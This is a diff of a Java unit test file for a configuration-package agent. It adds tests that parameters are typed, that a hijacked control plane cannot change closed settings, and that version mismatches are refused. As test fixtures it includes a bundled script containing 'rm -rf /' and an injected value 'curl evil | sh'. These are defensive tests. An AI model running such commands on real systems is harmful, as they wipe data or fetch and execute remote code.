@@ -7,6 +7,7 @@ import io.holdfast.agent.configuration.AssignmentType;
 import io.holdfast.agent.configuration.Consistency;
 import io.holdfast.agent.configuration.ItemResult;
 import io.holdfast.agent.configuration.resources.Machine;
+import io.holdfast.agent.configuration.resources.ScriptRules;
 import io.holdfast.agent.packages.PackageException;
 import io.holdfast.agent.packages.StagedPackage;
 import io.holdfast.agent.platform.CommandTools;
@@ -49,7 +50,8 @@ class ConfigurationPackageTest {
 
     private Map<String, ItemResult> audit(ConfigurationPackage read) throws IOException {
         MachineRoot root = MachineRoot.at(folder);
-        return Consistency.audit(read.configuration().items(), new Machine(root, new CommandTools(root), false))
+        return Consistency.audit(
+                        read.configuration().items(), new Machine(root, new CommandTools(root), ScriptRules.NONE))
                 .stream()
                 .collect(Collectors.toMap(one -> one.item().id(), one -> one));
     }
@@ -87,6 +89,7 @@ class ConfigurationPackageTest {
         ConfigurationPackage read = ConfigurationPackage.open(
                 staged(Map.of("Web.mof", document, "Web.metaconfig.json", META, "Modules/evil/run.sh", "rm -rf /")),
                 "Web",
+                "2.*",
                 Map.of());
         assertThat(read.configuration().version()).isEqualTo("2.1.0");
         assertThat(read.limited(AssignmentType.APPLY_AND_AUTO_CORRECT))
@@ -95,10 +98,10 @@ class ConfigurationPackageTest {
         try (var files = Files.list(folder)) {
             assertThat(files).containsExactly(folder.resolve("package.zip"));
         }
-        assertThatThrownBy(() -> ConfigurationPackage.open(staged(Map.of("Web.mof", document)), "Web", Map.of()))
+        assertThatThrownBy(() -> ConfigurationPackage.open(staged(Map.of("Web.mof", document)), "Web", "", Map.of()))
                 .isInstanceOf(ConfigurationPackageException.class)
                 .hasMessageContaining("(expected: Web.mof and Web.metaconfig.json)");
-        assertThatThrownBy(() -> ConfigurationPackage.open(staged(Map.of("../Web.mof", document)), "Web", Map.of()))
+        assertThatThrownBy(() -> ConfigurationPackage.open(staged(Map.of("../Web.mof", document)), "Web", "", Map.of()))
                 .hasMessageContaining("the package is refused");
     }
 
@@ -154,6 +157,60 @@ class ConfigurationPackageTest {
         assertThat(phrase(audit(read), "[App]one")).isEqualTo("The package 'wget' is not installed.");
         assertThatThrownBy(() -> read(document, Map.of("[App]two;Name", "wget")))
                 .hasMessageContaining("parameter '[App]two;Name'");
+    }
+
+    /** Values travel as texts; the property in the document says what they are. */
+    @Test
+    void parametersTakeTheKindOfTheirProperty() throws Exception {
+        String document =
+                instance("Holdfast_FileLine", "[Line]l", "paths={\"/etc/none\"}; pattern=\"a\"; ensure=\"Present\";")
+                        + instance("nxUser", "[User]u", "UserName=\"ada\"; Disabled=False;")
+                        + END;
+        Map<String, ItemResult> results =
+                audit(read(document, Map.of("[Line]l;Paths", "/etc/one; /etc/two", "[User]u;Disabled", "TRUE")));
+        assertThat(phrase(results, "[Line]l")).contains("/etc/one");
+        assertThatThrownBy(() -> read(document, Map.of("[User]u;Disabled", "perhaps")))
+                .hasMessage("parameter '[User]u;Disabled': 'perhaps' (expected: true or false)");
+        assertThat(audit(read(document, Map.of("[Line]l;Paths", "[\"/etc/json\"]")))
+                        .keySet())
+                .containsExactlyInAnyOrder("[Line]l", "[User]u");
+    }
+
+    /** A stolen control plane chooses parameters: it gets no further than the publisher's document lets it. */
+    @Test
+    void parametersChangeOnlyWhatTheDocumentLeavesOpen() {
+        String document = instance("nxFile", "[nxFile]f", "DestinationPath=\"/etc/x\"; Mode=\"0644\";")
+                + instance("Holdfast_Script", "[Script]s", "name=\"s\"; test=\"true\"; set=\"true\";")
+                + END;
+        for (String closed : new String[] {
+            "[nxFile]f;Contents",
+            "[nxFile]f;ResourceID",
+            "[Script]s;test",
+            "[Script]s;Set",
+            "[Script]s;testSignature",
+            "[Script]s;timeoutSeconds"
+        }) {
+            assertThatThrownBy(() -> read(document, Map.of(closed, "curl evil | sh")))
+                    .as(closed)
+                    .isInstanceOf(ConfigurationPackageException.class)
+                    .hasMessageContaining("parameter '" + closed + "': the document does not leave it open");
+        }
+    }
+
+    @Test
+    void anotherVersionThanTheAssignmentAsksForIsRefused() throws Exception {
+        StagedPackage staged =
+                staged(Map.of("Web.mof", instance("GC_msid121", "a", "") + END, "Web.metaconfig.json", META));
+        for (String wanted : new String[] {"", "*", "2.*", "2.1.*", "2.1.0"}) {
+            assertThat(ConfigurationPackage.open(staged, "Web", wanted, Map.of())
+                            .configuration()
+                            .version())
+                    .isEqualTo("2.1.0");
+        }
+        for (String wanted : new String[] {"1.*", "2", "2.1.0.*", ".*", "21.*"}) {
+            assertThatThrownBy(() -> ConfigurationPackage.open(staged, "Web", wanted, Map.of()))
+                    .hasMessage("the package is of version 2.1.0 (expected: " + wanted + ")");
+        }
     }
 
     @Test
